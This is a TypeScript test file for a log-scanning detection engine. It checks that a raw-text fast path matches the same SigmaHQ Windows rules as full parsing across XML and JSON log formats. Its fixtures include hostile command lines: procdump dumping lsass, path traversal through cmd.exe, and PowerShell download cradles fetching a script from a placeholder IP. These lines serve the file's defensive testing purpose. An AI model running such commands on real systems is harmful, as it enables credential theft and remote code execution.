/**
 * The raw-text scan's literals beyond plain ASCII: JSON's `/` (a `\/` escape sends the record to
 * the parser), a JSON quote as `\"`, XML's `&` as `&amp;` (an XML quote, raw or `&quot;`, is not
 * searched), and caseless characters beyond ASCII searched as their UTF-8 bytes (windash's
 * dashes, emoji, U+202E). The fast path must give the plain path's matches with every
 * SigmaHQ windows rule loaded, escapes and entities included, and a character that another
 * lower-cases into must never be searched raw.
 */
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { LoadedRules, loadRules } from '../../src/engine/rules/load';
import { searchableWide } from '../../src/engine/readers/prefilter';
import { benign, evtxDumpJson, flatJson, Rec, winlogbeatJson, xmlEvent } from '../support/events';
import { skipOrFailWithoutShared } from '../support/shared';
import { SIGMA_WINDOWS_RULES } from './evtx/support';
import { assertSame, tempDirForSuite } from './fastPathSupport';

const SUITE = 'raw search beyond ASCII';

/** Command lines around the literals this change made searchable, each with a near miss. */
const COMMAND_LINES = [
  'procdump.exe \u2013ma lsass.exe out.dmp', // en dash
  'procdump.exe \u2014ma lsass.exe out.dmp', // em dash
  'procdump.exe \u2015ma lsass.exe out.dmp', // horizontal bar
  'procdump.exe /ma lsass.exe out.dmp',
  'procdump.exe \u2013mx lsass.exe out.dmp', // near miss
  'cmd.exe /c type c:/../../windows/win.ini',
  'cmd.exe /c type c:/../windows/win.ini', // near miss
  'cmd.exe/c whoami',
  '"cmd/c whoami" & net user',
  "cmd.exe /c echo 'a' > out.txt & type out.txt",
  'ScreenConnect.ClientService.exe "?e=Access&y=Guest&h=relay.example&p=443&s=1&k=abc&c=x"',
  'powershell.exe -c iwr h"t"t"p://198.51.100.7/a.ps1',
  'cmd.exe /c whoami',
  'notepad.exe invoice\u202Etxt.exe',
  'notepad.exe \uD83D\uDE08 \uD83D\uDC80',
  'notepad.exe \u00C9T\u00C9 \u212Aelvin \u0130stanbul',
  'powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)',
];

function recs(): Rec[] {
  // benign() runs cmd.exe (under explorer.exe); the other tools get their own image.
  return COMMAND_LINES.map((commandLine, i) => benign(i + 1, commandLine.startsWith('cmd.exe') ? { commandLine } : { commandLine, image: `C:\\Tools\\${commandLine.split(' ')[0]}` }));
}

/** JSON lines, each record also written with every `/` escaped as `\/` and with `\u` escapes for the dashes. */
function jsonLines(shape: (r: Rec) => object): string {
  const lines: string[] = [];
  for (const r of recs()) {
    const line = JSON.stringify(shape(r));
    lines.push(line, line.replaceAll('/', '\\/'), line.replace(/[\u2013\u2014\u2015]/g, (d) => `\\u${d.charCodeAt(0).toString(16)}`));
  }
  return `${lines.join('\n')}\n`;
}

/** XML, each record also written with the dashes and U+202E as character references, and with quotes as entities. */
function xmlLines(): string {
  const lines: string[] = [];
  for (const r of recs()) {
    const xml = xmlEvent(r);
    const quotes = xml.replace(/(<Data Name="CommandLine">)([^<]*)/, (_, tag: string, text: string) => tag + text.replaceAll('"', '&quot;').replaceAll("'", '&apos;'));
    lines.push(xml, xml.replace(/[\u2013\u2014\u2015\u202e]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`), quotes);
  }
  return `<Events>\n${lines.join('\n')}\n</Events>\n`;
}

describe(SUITE, function () {
  this.timeout(600_000);
  const dir = tempDirForSuite('log-hunt-raw-');
  let rules: LoadedRules;

  before(async function () {
    if (!existsSync(SIGMA_WINDOWS_RULES)) return skipOrFailWithoutShared(this, '../shared/sigma/rules/windows', SUITE);
    rules = await loadRules({ paths: [SIGMA_WINDOWS_RULES] });
  });

  it('no character beyond ASCII that another lower-cases into is searched raw', () => {
    const into = new Set<string>();
    for (let cp = 0x80; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const ch = String.fromCodePoint(cp);
      for (const low of ch.toLowerCase()) if (low !== ch) into.add(low);
    }
    const searched = [...into].filter((ch) => ch.codePointAt(0)! >= 0x80 && searchableWide(ch));
    assert.deepEqual(searched, []);
    assert.ok(into.has('\u0307') && into.has('\u00e9'), 'the lower-case targets were gathered');
    for (const ch of ['\u2013', '\u2014', '\u2015', '\u202e', '\uD83D\uDE08']) assert.ok(searchableWide(ch), `${ch} is searched raw`);
    for (const ch of ['\u00e9', '\u00c9', '\ufffd', '\ud83d', '\u0307']) assert.ok(!searchableWide(ch), `${JSON.stringify(ch)} is not`);
  });

  const shapes: [string, () => string][] = [
    ['Event Viewer XML', xmlLines],
    ['flat JSON lines', () => jsonLines(flatJson)],
    ['Winlogbeat JSON lines', () => jsonLines(winlogbeatJson)],
    ['evtx_dump JSON lines', () => jsonLines(evtxDumpJson)],
  ];
  for (const [name, text] of shapes) {
    it(`${name}: the fast path gives the plain path's matches with every windows rule`, async () => {
      const file = path.join(dir, `${name.replace(/\W+/g, '-')}.log`);
      writeFileSync(file, text());
      const fast = await assertSame(file, { rules });
      const byRule = fast.summary.matchesByRule;
      // Not an empty agreement: the rules keyed by the new literals match where they should.
      const copies = 3;
      assert.equal(byRule['5afee48e-67dd-4e03-a783-f74259dcf998'], 4 * copies, `procdump on lsass with each windash dash: ${JSON.stringify(byRule)}`);
      assert.ok(byRule['087790e3-3287-436c-bccf-cbd0184a7db1'] >= copies, 'path traversal through cmd.exe');
      assert.ok(byRule['ad691d92-15f2-4181-9aa4-723c74f9ddc3'] >= copies, 'right-to-left override');
      assert.equal(byRule['75bfe6e6-cd8e-429e-91d3-03921e1d7962'], copies, 'ScreenConnect, keyed by literals with &');
      assert.equal(byRule['f0cdd048-82dc-4f7a-8a7a-b87a52b6d0fd'], copies, 'escape characters, keyed by h"t"t"p');
    });
  }
});
